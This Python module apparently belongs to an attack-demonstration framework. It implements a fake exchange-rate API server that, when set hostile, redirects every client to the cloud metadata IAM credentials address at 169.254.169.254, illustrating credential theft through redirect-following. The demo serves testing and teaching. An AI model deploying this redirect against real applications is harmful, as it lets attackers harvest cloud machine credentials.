"""A third-party API that, once hostile, redirects the app to the cloud's metadata address.

A client that follows the redirect leaks the machine's credentials. The demo's app stops there: nothing is contacted.
"""

import json

from backwatch.attack.protocols.server import HostileServer, Session

TARGET = b"http://169.254.169.254/latest/meta-data/iam/security-credentials/"


class HTTP(HostileServer):
    """Returns exchange rates; once hostile, redirects to the metadata address."""

    name = "http"
    attack = "redirects the app to the cloud's metadata address"
    reference = "OWASP API10:2023; ATT&CK T1552.005"
    driver = "requests"
    rule = "redirected"

    target = TARGET
    """Target of the redirect."""

    def serve(self, session: Session) -> None:
        """Serve HTTP/1.1 over TLS, one request after the other."""
        session.secure()
        while True:
            if not session.line():
                continue
            length = 0
            while header := session.line():
                name, _, value = header.partition(b":")
                if name.strip().lower() == b"content-length":
                    length = int(value)
            session.read(length)
            if self.hostile:
                session.send(b"HTTP/1.1 302 Found\r\nLocation: " + self.target + b"\r\nContent-Length: 0\r\n\r\n")
            else:
                body = json.dumps({"base": "EUR", "rates": {"USD": 1.08, "GBP": 0.85}}).encode()
                head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
                session.send(head + body)
